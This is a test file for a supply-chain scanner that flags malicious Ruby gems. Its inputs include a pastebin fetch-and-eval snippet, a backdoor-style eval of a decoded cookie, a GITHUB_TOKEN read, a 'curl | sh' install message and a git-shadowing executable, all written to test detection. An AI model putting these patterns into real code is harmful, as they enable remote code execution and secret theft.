// Ruby on the same language layer as JS and Python: analyzer facts, the gate on reconstructed malicious gems, benign Ruby, gemspec signals.
import { beforeAll, describe, expect, it } from 'vitest'
import { analyzeRuby, initRuby } from '../../src/scanning/languages/ruby.ts'
import { analyzeArtifact, initEngine } from '../../src/scanning/engine.ts'
import { ECOSYSTEMS } from '../../src/ecosystems.ts'
import { gemOf, gemspecYaml, type GemspecOptions } from '../helpers/gems.ts'
import { BOOTSTRAP_SASS, REST_CLIENT, STRONG_PASSWORD } from '../helpers/takeover-fixtures.ts'

const LIMITS = { maxArchiveBytes: 1 << 26, maxUnpackedBytes: 1 << 28, maxEntries: 10_000, maxEntryBytes: 1 << 26, maxPathDepth: 64, maxRatio: 1000 }

async function scanGem(name: string, version: string, files: Record<string, string>, spec: GemspecOptions = {}) {
  const eco = ECOSYSTEMS.get('rubygems')!
  const bytes = await gemOf({ metadata: gemspecYaml(name, version, spec), files })
  return analyzeArtifact(await eco.readArtifact(bytes, LIMITS), eco)
}

describe('the Ruby analyzer', () => {
  beforeAll(() => initRuby())

  it('sees code fetched from the network and evaluated, and decoded request data evaluated', () => {
    const facts = analyzeRuby(
      'lib/x.rb',
      `require 'net/http'
code = Net::HTTP.get(URI('https://pastebin.com/raw/abc'))
eval(code)
eval(Base64.urlsafe_decode64(request.cookies['sid'])) if Rails.env.production?
`,
    )
    expect(facts.flows.map((f) => `${f.source}>${f.sink}@${f.line}`)).toEqual(expect.arrayContaining(['network-response>dynamic-code@3', 'decode>dynamic-code@4', 'network-response>dynamic-code@4']))
    expect(facts.capabilities.map((c) => c.api)).toEqual(expect.arrayContaining(['Net::HTTP.get', 'eval', 'Base64.urlsafe_decode64', 'Rails.env']))
    expect(facts.indicators.map((i) => i.kind)).toContain('paste-site')
    expect(facts.localImports).toEqual(['net/http'])
  })

  it('maps processes, subshells, the environment and dispatch to capabilities', () => {
    const facts = analyzeRuby(
      'lib/y.rb',
      `out = \`hostname\`
IO.popen(['ls', '-l'])
Open3.capture2('git', 'status')
dump = ENV.to_h
token = ENV['GITHUB_TOKEN']
obj.send(name_from_user)
`,
    )
    const caps = facts.capabilities.map((c) => `${c.cap}:${c.api}`)
    expect(caps).toEqual(expect.arrayContaining(['process:`…` (subshell)', 'process:IO.popen', 'process:Open3.capture2', 'env-dump:ENV.to_h', 'dynamic-code:obj.send']))
  })

  it('does not count DSL blocks, symbol dispatch or uncalled methods as running code', () => {
    const facts = analyzeRuby(
      'lib/z.rb',
      `config.instance_eval { set :port, 80 }
obj.send(:reload)
def cleanup(dir)
  system("rm -rf #{dir}")
end
`,
    )
    expect(facts.capabilities.filter((c) => c.cap === 'dynamic-code')).toEqual([])
    const spawn = facts.capabilities.find((c) => c.cap === 'process')!
    expect(spawn.fn).toBe('cleanup')
    expect(facts.reachable).not.toContain('cleanup')
  })
})

describe('the gate on gems', () => {
  beforeAll(() => initEngine())

  it.each([
    ['rest-client 1.6.13', REST_CLIENT[1]!],
    ['strong_password 0.0.7', STRONG_PASSWORD[1]!],
    ['bootstrap-sass 3.2.0.3', BOOTSTRAP_SASS[1]!],
  ])('stops %s on its own (no history needed)', async (_label, step) => {
    const report = await scanGem(step.name, step.version, step.files, { files: Object.keys(step.files) })
    expect(report.verdict).not.toBe('publish')
    const rules = report.signals.filter((s) => s.weight > 0).map((s) => s.rule)
    expect(rules.some((r) => r === 'downloads-and-executes' || r === 'decodes-and-executes'), rules.join(', ')).toBe(true)
  })

  it('publishes an ordinary Rails-style gem: a Rakefile task, an API client, a DSL', async () => {
    const files = {
      'lib/weather_client.rb': `require 'net/http'
require 'json'
module WeatherClient
  def self.forecast(city)
    JSON.parse(Net::HTTP.get(URI("https://api.weather.example/v1/#{city}")))
  end
  def self.configure(&block)
    Config.instance_eval(&block)
  end
  def self.reload!
    Config.send(:reset!)
  end
end
`,
      Rakefile: `task :docs do
  system('yard', 'doc')
end
`,
    }
    const report = await scanGem('weather_client', '1.2.0', files, { files: Object.keys(files) })
    expect(report.verdict, JSON.stringify(report.signals)).toBe('publish')
  })

  it('reads the gemspec: install messages that send users to downloads, PATH hijacks, files added after the build', async () => {
    const lib = { 'lib/tool.rb': 'module Tool; end\n' }
    const message = await scanGem('tool', '1.0.0', lib, { files: Object.keys(lib), postInstallMessage: 'Finish setup: curl -s https://get.example.net/x.sh | sh' })
    expect(message.signals.find((s) => s.rule === 'install-message')?.weight).toBeGreaterThanOrEqual(30)

    const shadow = await scanGem('tool', '1.0.1', { ...lib, 'exe/git': '#!/usr/bin/env ruby\nputs 1\n' }, { files: ['lib/tool.rb', 'exe/git'], executables: ['git'] })
    expect(shadow.signals.find((s) => s.rule === 'shadows-system-command')?.message).toBe('installs the command "git"')

    const added = await scanGem('tool', '1.0.2', { ...lib, 'lib/tool/boot.rb': 'puts 1\n' }, { files: ['lib/tool.rb'] })
    expect(added.signals.find((s) => s.rule === 'undeclared-files')?.message).toMatch(/lib\/tool\/boot\.rb .*not in the declared file list/)
    const clean = await scanGem('tool', '1.0.3', lib, { files: ['lib/tool.rb'] })
    expect(clean.signals.map((s) => s.rule)).not.toContain('undeclared-files')
  })
})
